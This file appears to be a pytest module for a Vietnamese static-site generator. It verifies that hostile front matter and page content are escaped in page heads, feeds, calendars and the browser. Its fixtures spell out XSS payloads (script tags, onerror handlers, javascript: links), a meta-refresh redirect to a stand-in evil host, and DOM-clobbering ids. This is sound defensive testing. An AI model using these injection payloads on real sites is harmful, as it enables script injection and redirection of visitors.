"""Hostile text that passes the check is published harmlessly: in attributes of the page head, in the body's ids,
in feeds and calendars. Proven in headless Chromium where a browser is what would be fooled: no navigation off
the site, no script run (``window.__pwned``), no request to another host, the theme's own config intact."""

from __future__ import annotations

import functools
import html
import http.server
import shutil
import threading
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlparse

import feedparser
import pytest

from conftest import SUBPATH, _SubPathHandler, run_mkdocs_build
from thidua.core.loader import load
from thidua.features.calendars import escape_text
from thidua.features.feature import PageSpec, attribute_text
from thidua.site.sanitize import clean_html

FIXTURE = Path(__file__).parent / "fixtures" / "mini"
EVIL = "https://evil.example/"
REFRESH = f'x" http-equiv="refresh" content="0;url={EVIL}" data-x="'
NAME = "Nguyễn \"Văn\" <b>A</b> & 'B'\"><script>window.__pwned=1</script>"
SUMMARY = REFRESH + "<script>window.__pwned=2</script> &amp; \n xuống dòng 'đơn' <img src=x onerror=window.__pwned=3>"
TITLE = f"Phát động\"><meta http-equiv=\"refresh\" content=\"0;url={EVIL}\"><script>window.__pwned=4</script>"
MOVEMENT = "Phong trào \"thi đua\" ' onmouseover='window.__pwned=5"
BODY = f"""
<h2 id="__config">Tiêu đề giả</h2>

<div id="__config">{{"base": "{EVIL}", "features": [], "search": "{EVIL}search.js", "version": null}}</div>

<form name="getElementById"><input name="x"></form>

<p id="__drawer" name="location">đoạn</p>

<a href="javascript:window.__pwned=6" id="search">liên kết</a> <img alt="x" onerror="window.__pwned=7">

<svg><script>window.__pwned=8</script></svg>

## Kết quả

Đoạn có [liên kết ngoài](https://vnexpress.net/bai-viet) là được phép.

## __config

Nội dung.
"""


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "p"
    shutil.copytree(FIXTURE, root)
    (root / "exemplars" / "tan-cong.md").write_text(f"""---
ten: {_yaml(NAME)}
doi_tuong: ca-nhan
dia_phuong: tinh-ha-tinh
linh_vuc: {_yaml('Giáo dục "x" <i>')}
phong_trao: [quoc-gia]
ngay: "01/05/2024"
tom_tat: {_yaml(SUMMARY)}
nguon: {_yaml('<a href="javascript:alert(1)">nguồn</a>')}
---
{BODY}""", encoding="utf-8")
    plan = (root / "plans" / "kh-2.md").read_text(encoding="utf-8")
    plan = plan.replace('trich_yeu: "Kế hoạch không ghi số và ngày"', f"trich_yeu: {_yaml(TITLE)}")
    plan = plan.replace('ngay_ban_hanh: ""', 'ngay_ban_hanh: "02/03/2024"')
    plan = plan.replace("---\n\n", "moc_thoi_gian:\n  - ngay: \"10/03/2024\"\n    noi_dung: " + _yaml(TITLE) + "\n---\n\n", 1)
    (root / "plans" / "kh-2.md").write_text(plan + BODY, encoding="utf-8")
    movement = (root / "movements" / "quoc-gia.md").read_text(encoding="utf-8")
    movement = movement.replace('ten: "Cả nước chung sức xây dựng nông thôn mới"', f"ten: {_yaml(MOVEMENT)}")
    (root / "movements" / "quoc-gia.md").write_text(movement + BODY, encoding="utf-8")
    result = load(root)
    assert result.ok, [d.format() for d in result.diagnostics]
    return root


@pytest.fixture(scope="module")
def hostile_site(hostile, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("hostile-site") / "site"
    result = run_mkdocs_build(hostile, out)
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture(scope="module")
def hostile_served(hostile_site):
    handler = functools.partial(_SubPathHandler, directory=str(hostile_site))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}{SUBPATH}"
    server.shutdown()


class _Head(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.metas: list[dict] = []
        self.title = ""
        self.scripts = 0
        self.ids: list[str] = []
        self._in_title = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "meta":
            self.metas.append(attrs)
        if tag == "title":
            self._in_title = True
        if tag == "script":
            self.scripts += 1
        if "id" in attrs:
            self.ids.append(attrs["id"])

    def handle_endtag(self, tag):
        if tag == "title":
            self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data


def _parse(path: Path) -> _Head:
    parser = _Head()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


PAGES = ["guong/tan-cong/index.html", "ke-hoach/kh-2/index.html", "phong-trao/quoc-gia/index.html"]


@pytest.mark.parametrize("page", PAGES)
def test_head_attributes_hold_the_text_exactly_and_nothing_more(hostile_site, page):
    head = _parse(hostile_site / page)
    assert not [m for m in head.metas if "http-equiv" in m and m["http-equiv"].lower() == "refresh"]
    assert all(set(m) <= {"name", "content", "property", "charset", "http-equiv"} for m in head.metas), head.metas
    ids = [i for i in head.ids if i.startswith("__")]
    assert ids.count("__config") == 1, ids  # only the theme's own
    description = [m["content"] for m in head.metas if m.get("name") == "description"]
    if "guong" in page:
        assert description == [" ".join(SUMMARY.split())]
        assert head.title.startswith(" ".join(NAME.split()) + " - ")
    if "ke-hoach" in page:
        assert TITLE in head.title


def test_page_meta_is_escaped_once_where_it_is_set():
    meta = PageSpec("x.md", 'a"b<c>&d\'e\nf', "t.html", description='"><script>').meta()
    assert str(meta["title"]) == "a&#34;b&lt;c&gt;&amp;d&#39;e f"
    assert str(meta["description"]) == "&#34;&gt;&lt;script&gt;"
    assert attribute_text(meta["title"]) == meta["title"]  # Markup: never escaped twice


@pytest.mark.parametrize("page", ["guong/tan-cong/", "ke-hoach/kh-2/", "phong-trao/quoc-gia/", "guong/", "ke-hoach/",
                                  "phong-trao/", "dong-thoi-gian/", "dia-phuong/tinh-ha-tinh/"])
def test_hostile_pages_run_nothing_and_go_nowhere_in_chromium(browser, hostile_served, page):
    driver = browser.open(hostile_served + page)
    time.sleep(1.2)  # a meta refresh with delay 0 would have fired by now
    assert driver.current_url.startswith(hostile_served), driver.current_url
    assert driver.execute_script("return window.__pwned === undefined")
    assert driver.execute_script("var c = document.getElementById('__config'); return c && c.tagName") == "SCRIPT"
    assert driver.execute_script("return typeof document.getElementById") == "function"
    assert driver.execute_script("return document.querySelectorAll('[id=\"__config\"]').length") == 1
    host = urlparse(hostile_served).netloc
    outside = [u for u in browser.requested_urls() if urlparse(u).scheme in ("http", "https") and urlparse(u).netloc != host]
    assert outside == []


def test_heading_anchors_still_work(browser, hostile_served, hostile_site):
    page = (hostile_site / "guong" / "tan-cong" / "index.html").read_text(encoding="utf-8")
    assert 'id="ket-qua"' in page and 'href="#ket-qua"' in page
    driver = browser.open(hostile_served + "guong/tan-cong/#ket-qua")
    assert driver.execute_script("return document.getElementById('ket-qua').tagName") == "H2"


@pytest.mark.parametrize("raw, gone", [
    ('<p id="__config">x</p>', 'id="__config"'), ('<h2 id="__config">x</h2>', 'id="__config"'),
    ('<h3 id="md-sidebar">x</h3>', "md-sidebar"), ('<h3 id="td-search-box">x</h3>', "td-search-box"),
    ('<img name="body" alt="a">', "name="), ('<a id="search" href="#x">x</a>', 'id="search"'),
    ('<img src="http://e.example/a.png" alt="a">', "e.example"), ('<img src="//e.example/a.png">', "e.example"),
    ('<img src=" https://e.example/a.png">', "e.example"), ('<img src="HTTPS://E.EXAMPLE/a.png">', "E.EXAMPLE"),
    ('<img src="data:image/png;base64,AAAA">', "data:"), ('<img srcset="https://e.example/a.png 2x">', "e.example"),
    ('<picture><source srcset="https://e.example/a.png"></picture>', "e.example"),
    ('<video poster="https://e.example/p.jpg" src="https://e.example/v.mp4"></video>', "e.example"),
    ('<p style="background:url(https://e.example/b.png)">x</p>', "e.example"),
])
def test_sanitiser_drops_clobbering_ids_and_remote_images(raw, gone):
    assert gone not in clean_html(raw)


def test_sanitiser_keeps_links_and_heading_anchors():
    raw = '<h2 id="ket-qua">K<a class="headerlink" href="#ket-qua">¶</a></h2><a href="https://vnexpress.net/x">l</a>'
    assert clean_html(raw) == raw


def test_feeds_carry_hostile_text_as_text(hostile_site):
    for name in ("ban-tin.rss.xml", "ban-tin.atom.xml"):
        parsed = feedparser.parse((hostile_site / name).read_bytes())
        assert not parsed.bozo, parsed.bozo_exception
        [entry] = [e for e in parsed.entries if "tan-cong" in e.link]
        summary = entry.summary
        detail = entry.summary_detail
        if detail.type == "text/html":
            assert "<script" not in summary and "<img" not in summary
            summary = html.unescape(summary)
        assert summary == " ".join(SUMMARY.split()), (name, entry.summary)
        title = entry.title if entry.title_detail.type != "text/html" else html.unescape(entry.title)
        assert title == " ".join(NAME.split()), (name, entry.title)
    rss = (hostile_site / "ban-tin.rss.xml").read_text(encoding="utf-8")
    assert "&lt;script&gt;" not in rss and "&amp;lt;script&amp;gt;" in rss


def test_calendars_carry_no_control_characters():
    assert escape_text("a\x1bb\x00c\x7fd\x85e\u2028f\ud800g;h,i\nj") == "abcdefg\\;h\\,i\\nj"


def test_calendar_of_a_hostile_plan_parses(hostile_site):
    import icalendar

    data = (hostile_site / "ke-hoach" / "kh-2" / "lich.ics").read_bytes()
    calendar = icalendar.Calendar.from_ical(data)
    summaries = [str(e.get("summary")) for e in calendar.walk("VEVENT")]
    assert any(TITLE in s for s in summaries), summaries
